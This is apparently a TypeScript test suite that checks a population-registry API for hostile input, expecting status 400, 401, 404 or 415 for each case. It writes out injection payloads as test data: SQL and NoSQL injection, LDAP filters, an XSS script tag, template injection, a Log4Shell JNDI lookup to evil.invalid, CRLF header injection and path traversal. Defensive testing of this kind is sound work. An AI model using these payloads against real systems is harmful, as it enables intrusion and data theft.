import { after, before, describe, it } from "@std/testing/bdd";
import assert from "node:assert/strict";
import { type Client, signIn } from "../e2e/client.ts";
import { PENDUDUK } from "../fixtures.ts";
import { startSystem, type System } from "./system.ts";

const [ujang] = PENDUDUK;

describe("Attacks by hostile input", () => {
  let system: System;
  let petugas: Client;
  let admin: Client;
  before(async () => {
    system = await startSystem({ RATE_LIMIT_PER_MINUTE: "10000" });
    petugas = await signIn(system.url, "petugas");
    admin = await signIn(system.url, "admin");
  });
  after(() => system.stop());

  const json = JSON.stringify(ujang);
  const bodies: Readonly<Record<string, string | Uint8Array<ArrayBuffer>>> = {
    "an empty body": "",
    "a list": `[${json}]`,
    "null": "null",
    "a text": '"penduduk"',
    "a number": "1e999",
    "a comment": `/**/${json}`,
    "a comma at the end": json.replace("}", ",}"),
    "two objects": json + json,
    "a field twice": json.replace("{", '{"provinsi":"11",'),
    "a field twice, once escaped": json.replace("{", '{"\\u0070rovinsi":"11",'),
    "brackets down to the bottom of the stack": "[".repeat(16_000),
    "objects down to the bottom of the stack": '{"nik":'.repeat(2_000),
    "half a character": Uint8Array.of(0x7b, 0x22, 0xc3, 0x22, 0x7d),
    "an overlong character": Uint8Array.of(0x7b, 0x22, 0xc0, 0xaf, 0x22, 0x7d),
    "UTF-16": new Uint8Array(new Uint16Array(Array.from(json, (char) => char.charCodeAt(0))).buffer),
    "a NIK as a number": json.replace(/"nik":"(\d+)"/, '"nik":$1'),
    "a NIK in full-width digits": json.replace(/"nik":"\d+"/, `"nik":"${"\uff13".repeat(16)}"`),
    "a NIK as an operator": json.replace(/"nik":"\d+"/, '"nik":{"$gt":""}'),
    "a NIK with a line feed": json.replace(/"nik":"(\d+)"/, '"nik":"$1\\n"'),
    "a province as a list": json.replace(/"provinsi":"[^"]+"/, '"provinsi":["32"]'),
    "a province that is code": json.replace(/"provinsi":"[^"]+"/, `"provinsi":"32' or '1'='1"`),
    "a name that ends a statement": named("Robert'); drop table penduduk;--"),
    "a name that is a page": named("<script>alert(1)</script>"),
    "a name that is a template": named("{{constructor.constructor('x')()}}"),
    "a name that is a look-up": named("${jndi:ldap://evil.invalid/a}"),
    "a name with a line for the log": named("Uji\\nERROR dipalsukan"),
    "a name with a null byte": named("Uji\\u0000"),
    "a name turned around": named("Uji\\u202e"),
    "a name of half a surrogate": named("Uji\\ud800"),
    "a name of nothing visible": named("\\u200b\\u2060"),
    "a name of 10,000 letters": named("a".repeat(10_000)),
    "a name with a thousand marks": named(`a${"\\u0301".repeat(1_000)}`),
  };
  for (const [what, body] of Object.entries(bodies)) {
    it(`a registration with ${what} is refused`, async () => {
      const answer = await fetch(`${system.url}/penduduk`, {
        method: "POST",
        headers: { authorization: petugas.authorization, "content-type": "application/json" },
        body,
      });
      const problem = await answer.json();
      assert.equal(answer.status, 400);
      assert.ok(["INVALID_INPUT", "MALFORMED_JSON"].includes(problem.code), problem.code);
    });
  }

  for (
    const type of [
      "text/plain",
      "application/x-www-form-urlencoded",
      "multipart/form-data; boundary=x",
      "text/xml",
    ]
  ) {
    it(`a registration as ${type}, which a foreign page could send, is refused`, async () => {
      const answer = await petugas.post("/penduduk", json, { "content-type": type });
      assert.deepEqual([answer.status, (await answer.json()).code], [415, "UNSUPPORTED_MEDIA_TYPE"]);
    });
  }

  const logins: Readonly<Record<string, unknown>> = {
    "operators": { username: { $ne: "" }, password: { $ne: "" } },
    "a statement": { username: "admin'--", password: "x" },
    "an LDAP filter": { username: "*)(uid=*", password: "x" },
    "a list": { username: ["admin"], password: ["x"] },
    "another grant": { username: "admin", password: "x&grant_type=client_credentials" },
    "a null byte": { username: "petugas\u0000", password: "petugas-rahasia" },
    "a line feed": { username: "admin\r\nX-Role: admin", password: "x" },
    "a field too many": { username: "admin", password: "admin-rahasia", role: "admin" },
    "a password of 10,000 letters": { username: "admin", password: "a".repeat(10_000) },
  };
  for (const [what, body] of Object.entries(logins)) {
    it(`a login with ${what} is refused`, async () => {
      const answer = await petugas.post("/login", body);
      assert.ok([400, 401].includes(answer.status), `${answer.status}`);
      await answer.body?.cancel();
    });
  }

  for (const key of ["", " ", "a b", "a\tb", "\u00e9", "a".repeat(256), '"a', 'a"b']) {
    it(`an Idempotency-Key of the form ${JSON.stringify(key).slice(0, 20)} is refused`, async () => {
      const answer = await petugas.post("/penduduk", {}, { "idempotency-key": key });
      assert.deepEqual([answer.status, (await answer.json()).code], [400, "INVALID_INPUT"]);
    });
  }

  const reads = {
    "an id that is a statement": "/penduduk/1'%20or%20'1'='1",
    "an id that is none": "/penduduk/..%2f..%2fstats",
    "a province that is a statement": "/stats/32'--",
    "a province that does not exist": "/stats/99",
    "a limit that is a statement": "/sms?limit=1;select%20pg_sleep(9)",
    "a limit beyond all": "/sms?limit=1000000",
    "a limit below none": "/sms?limit=-1",
    "two limits": "/sms?limit=1&limit=1000",
  };
  for (const [what, path] of Object.entries(reads)) {
    it(`reading with ${what} is refused`, async () => {
      const answer = await admin.get(path);
      assert.ok([400, 404].includes(answer.status), `${answer.status}`);
      assert.match((await answer.json()).code, /^(INVALID_INPUT|NOT_FOUND)$/);
    });
  }
});

/** `nama` as it stands between the quotes of JSON. */
function named(nama: string): string {
  return JSON.stringify({ ...ujang, nama: "NAMA" }).replace("NAMA", () => nama);
}
